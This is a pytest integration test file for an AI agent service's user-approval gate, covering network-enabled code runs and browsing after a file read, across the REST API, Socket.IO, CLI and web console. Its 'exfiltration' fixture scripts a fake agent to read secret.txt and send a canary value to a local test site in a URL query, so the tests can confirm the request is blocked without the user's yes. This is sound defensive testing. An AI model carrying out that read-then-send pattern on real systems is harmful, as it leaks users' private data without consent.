"""The user's say on the real stack: a scripted fake model, Celery worker, gunicorn web and
the sandbox manager on dockerd. run_code with network and a tainted browse wait for the
user's answer (REST or Socket.IO); a denial, no answer in time, or a cancel each end the
wait as documented; and a read file cannot be sent to a new site without the user's yes."""

import json
import os
import pty
import subprocess
import sys
import tempfile
import time

import pytest

from .stack import API_TOKEN, APPROVAL_TIMEOUT_S as TIMEOUT_S, CANARY
from .agent_fixtures import client, fake, rest, stack  # noqa: F401 - fixtures
from .test_agent import of_type, result_of
from .test_cli import cli_env

ONLINE = {"language": "python", "code": "print('online')", "network": True}


def submit(listener, fake, script: list, **task_input) -> str:
    name = f"approvals-{time.monotonic_ns()}"
    fake.scripts[name] = script
    task_input.setdefault("tools", ["run_code"])
    ack = listener.call("task:submit", {"kind": "agent", "input": dict(
        goal="go", model=f"script:{name}", provider="openai", **task_input)})
    assert "error" not in ack, ack
    return ack["task_id"]


def asked(listener, task_id: str, timeout: float = 60) -> dict:
    """The task's (first) approval_required event, once it came."""
    listener.wait_for(lambda got: of_type(got.of(task_id), "approval_required"), timeout,
                      f"task {task_id} to ask")
    return of_type(listener.of(task_id), "approval_required")[0]


def test_run_code_with_network_waits_for_the_users_yes_over_rest(client, rest, fake):
    task_id = submit(client, fake, [{"tools": [("run_code", ONLINE)]}, {"text": "Done."}])
    question = asked(client, task_id)
    assert question["tool"] == "run_code" and question["key"] == "run_code.network"
    assert question["arguments"]["code"] == "print('online')"
    assert question["timeout_s"] == TIMEOUT_S and "network" in question["reason"].lower() \
        or "internet" in question["reason"]
    # the task shows what it waits for; nothing ran yet
    pending = rest.get(f"/api/tasks/{task_id}").json()["pending_approvals"]
    assert [p["call_id"] for p in pending] == [question["call_id"]]
    assert of_type(client.of(task_id), "stdout") == []

    url = f"/api/tasks/{task_id}/approvals/{question['call_id']}"
    assert rest.post(url, json={"approved": "yes"}).status_code == 422
    reply = rest.post(url, json={"approved": True})
    assert reply.status_code == 200, reply.text
    assert reply.json() == {"task_id": task_id, "call_id": question["call_id"],
                            "approved": True}
    assert client.wait_final(task_id, 60) == "succeeded"
    events = client.of(task_id)
    [result] = of_type(events, "tool_result")
    assert result["is_error"] is False and "online" in result["output"]
    assert of_type(events, "approval_resolved") == [
        {"call_id": question["call_id"], "approved": True, "by": "user"}]
    again = rest.post(url, json={"approved": False})
    assert again.status_code == 409 and again.json()["error"]["code"] == "conflict"
    missing = rest.post(f"/api/tasks/{task_id}/approvals/call_9_9", json={"approved": True})
    assert missing.status_code == 409  # the task has ended: nothing waits
    nobody = rest.post("/api/tasks/no-such-task-1/approvals/x", json={"approved": True})
    assert nobody.status_code == 404 and nobody.json()["error"]["code"] == "not_found"
    assert "pending_approvals" not in rest.get(f"/api/tasks/{task_id}").json()


def test_a_denial_reaches_the_model_as_a_tool_error_and_the_run_goes_on(client, rest, fake):
    task_id = submit(client, fake, [{"tools": [("run_code", ONLINE)]},
                                    {"text": "Understood, I will not go online."}])
    question = asked(client, task_id)
    unknown = rest.post(f"/api/tasks/{task_id}/approvals/call_7_7", json={"approved": True})
    assert unknown.status_code == 404  # a running task, but no such request
    reply = rest.post(f"/api/tasks/{task_id}/approvals/{question['call_id']}",
                      json={"approved": False, "note": "no network today"})
    assert reply.status_code == 200, reply.text
    assert client.wait_final(task_id, 60) == "succeeded"
    events = client.of(task_id)
    [result] = of_type(events, "tool_result")
    assert result["is_error"] is True
    assert "the user denied this action: no network today" in result["output"]
    assert result_of(events)["text"] == "Understood, I will not go online."
    assert of_type(events, "stdout") == []  # the code never ran
    last = [r for r in fake.requests if r["model"].startswith("script:approvals-")][-1]
    tool_messages = [m["content"] for m in last["messages"] if m["role"] == "tool"]
    assert any("the user denied this action" in c for c in tool_messages)


def test_no_answer_in_time_is_a_denial(client, fake):
    task_id = submit(client, fake, [{"tools": [("run_code", ONLINE)]}, {"text": "Ok."}])
    asked(client, task_id)
    started = time.monotonic()
    assert client.wait_final(task_id, TIMEOUT_S + 30) == "succeeded"
    assert time.monotonic() - started < TIMEOUT_S + 10
    events = client.of(task_id)
    [result] = of_type(events, "tool_result")
    assert result["is_error"] and f"no answer from the user within {TIMEOUT_S} s" in \
        result["output"]
    assert of_type(events, "approval_resolved")[0]["by"] == "timeout"


def test_a_cancel_while_waiting_ends_the_task_promptly(client, fake):
    task_id = submit(client, fake, [{"tools": [("run_code", ONLINE)]}, {"text": "never"}])
    asked(client, task_id)
    started = time.monotonic()
    client.call("task:cancel", {"task_id": task_id})
    assert client.wait_final(task_id, 10) == "cancelled"
    assert time.monotonic() - started < 2.0
    assert of_type(client.of(task_id), "approval_resolved")[0]["by"] == "cancel"


def test_the_socketio_answer_path(client, fake):
    task_id = submit(client, fake, [{"tools": [("run_code", ONLINE)]}, {"text": "Done."}])
    question = asked(client, task_id)
    answer = {"task_id": task_id, "call_id": question["call_id"]}
    bad = client.call("task:approve", dict(answer, approved=None))
    assert bad["error"]["code"] == "invalid_request"
    assert client.call("task:approve", dict(answer, approved=True, note="go")) == {"ok": True}
    twice = client.call("task:approve", dict(answer, approved=False))
    assert twice["error"]["code"] == "conflict"
    assert client.wait_final(task_id, 60) == "succeeded"
    assert of_type(client.of(task_id), "approval_resolved") == [
        {"call_id": question["call_id"], "approved": True, "by": "user", "note": "go"}]
    assert "online" in of_type(client.of(task_id), "tool_result")[0]["output"]


def test_a_task_may_narrow_the_policy_but_not_widen_it(client, rest, fake):
    refused = rest.post("/api/tasks", json={"kind": "agent", "input": {
        "goal": "x", "tool_policy": {"run_code.network": "auto"}}})
    assert refused.status_code == 422
    assert "only be stricter" in refused.json()["error"]["message"]
    bad = rest.post("/api/tasks", json={"kind": "agent", "input": {
        "goal": "x", "tool_policy": {"run_code": "never"}}})
    assert bad.status_code == 422 and "auto, ask or deny" in bad.json()["error"]["message"]
    task_id = submit(client, fake, [{"tools": [("run_code", {"language": "bash",
                                                             "code": "echo hi"})]},
                                    {"text": "Ok."}], tool_policy={"run_code": "deny"})
    assert client.wait_final(task_id, 60) == "succeeded"
    events = client.of(task_id)
    [result] = of_type(events, "tool_result")
    assert result["is_error"] and "the policy denies run_code" in result["output"]
    assert of_type(events, "approval_required") == []


def exfiltration(site) -> list:
    return [{"tools": [("read_file", {"path": "secret.txt"})]},
            {"tools": [("browse", {"url": site.url(f"/?d={CANARY}")})]},
            {"text": "Done."}]


def test_a_read_file_is_not_sent_to_a_new_site_unless_the_user_says_yes(client, rest, fake,
                                                                         site):
    site.requests.clear()
    task_id = submit(client, fake, exfiltration(site), tools=["read_file", "browse"])
    question = asked(client, task_id)
    assert question["key"] == "browse.tainted"
    assert question["arguments"] == {"url": site.url(f"/?d={CANARY}")}
    assert site.url(f"/?d={CANARY}") in question["reason"]
    reply = rest.post(f"/api/tasks/{task_id}/approvals/{question['call_id']}",
                      json={"approved": False})
    assert reply.status_code == 200
    assert client.wait_final(task_id, 60) == "succeeded"
    results = of_type(client.of(task_id), "tool_result")
    assert [r["is_error"] for r in results] == [False, True]
    assert CANARY in results[0]["output"]
    assert site.requests == []  # the listener never heard of it

    # with the default policy and nobody answering: still nothing
    task_id = submit(client, fake, exfiltration(site), tools=["read_file", "browse"])
    assert client.wait_final(task_id, TIMEOUT_S + 60) == "succeeded"
    assert of_type(client.of(task_id), "approval_resolved")[0]["by"] == "timeout"
    assert site.requests == []


def test_the_users_yes_lets_the_browse_through(client, rest, fake, site):
    site.requests.clear()
    task_id = submit(client, fake, exfiltration(site), tools=["read_file", "browse"])
    question = asked(client, task_id)
    assert rest.post(f"/api/tasks/{task_id}/approvals/{question['call_id']}",
                     json={"approved": True}).status_code == 200
    assert client.wait_final(task_id, 90) == "succeeded"
    results = of_type(client.of(task_id), "tool_result")
    assert results[1]["is_error"] is False, results[1]
    assert f"/?d={CANARY}" in site.requests


# --- the CLI ------------------------------------------------------------------------------

def cli(stack, fake, *args, stdin=None):
    """`python -m aios submit agent` of a run_code-with-network script; stdin: a file object
    (a pty for a terminal) or None (a pipe: no terminal)."""
    name = f"approvals-cli-{time.monotonic_ns()}"
    fake.scripts[name] = [{"tools": [("run_code", ONLINE)]}, {"text": "Done."}]
    task = json.dumps({"goal": "go", "model": f"script:{name}", "provider": "openai",
                       "tools": ["run_code"]})
    return subprocess.run([sys.executable, "-m", "aios", "submit", "agent", "--input", task,
                           *args], env=cli_env(stack.web, API_TOKEN),
                          cwd=tempfile.mkdtemp(prefix="aios-cli-"), stdin=stdin,
                          input=None if stdin else "", capture_output=True, text=True,
                          timeout=90)


def test_the_cli_allows_with_yes_and_denies_without_a_terminal(stack, fake):
    allowed = cli(stack, fake, "--yes")
    assert allowed.returncode == 0, allowed.stderr
    assert "online" in allowed.stdout and "[approval] allowed" in allowed.stderr
    denied = cli(stack, fake)
    assert denied.returncode == 0, denied.stderr
    assert "online" not in denied.stdout and "[approval] denied" in denied.stderr
    assert "the user denied this action: the CLI had no terminal" in denied.stderr


def test_the_cli_asks_on_the_terminal(stack, fake):
    for reply, expected in (("y\n", True), ("\n", False)):
        master, slave = pty.openpty()
        try:
            os.write(master, reply.encode())  # typed ahead: the tty keeps the line
            with os.fdopen(slave, "r", closefd=False) as terminal:
                done = cli(stack, fake, stdin=terminal)
        finally:
            os.close(master)
            os.close(slave)
        assert done.returncode == 0, done.stderr
        assert "Allow it? [y/N]" in done.stderr and "run_code.network wants to run" in \
            done.stderr
        assert ("online" in done.stdout) is expected, done.stderr


# --- the console --------------------------------------------------------------------------

@pytest.fixture(scope="module")
def console_browser():
    from playwright.sync_api import sync_playwright

    from .test_console import ARGS, CHROMIUM
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=ARGS)
        yield browser
        browser.close()


def test_the_console_shows_the_request_with_allow_and_deny(console_browser, stack, fake):
    from playwright.sync_api import expect

    from .test_console import connect, console_page
    with console_page(console_browser, stack.web.url) as page:
        connect(page)
        page.check("#raw-mode")
        page.select_option("#kind", "agent")
        for button, verdict, online in (("Allow", "allowed", True), ("Deny", "denied", False)):
            name = f"approvals-console-{time.monotonic_ns()}"
            fake.scripts[name] = [{"tools": [("run_code", ONLINE)]}, {"text": "Done."}]
            page.fill("#raw-input", json.dumps({"goal": "go", "model": f"script:{name}",
                                                "provider": "openai", "tools": ["run_code"]}))
            expect(page.locator("#submit")).to_be_enabled()
            page.click("#submit")
            request = page.locator("#events li.approval")
            expect(request).to_contain_text("run_code.network wants to run", timeout=30_000)
            expect(request.locator("pre")).to_contain_text("print('online')")
            request.get_by_role("button", name=button).click()
            expect(request.locator(".verdict")).to_have_text(verdict, timeout=10_000)
            expect(page.locator("#task-status")).to_have_text("succeeded", timeout=30_000)
            expect(page.locator("#events")).to_contain_text(f"{verdict} (by the user)")
            assert ("online" in page.locator("#output").inner_text()) is online
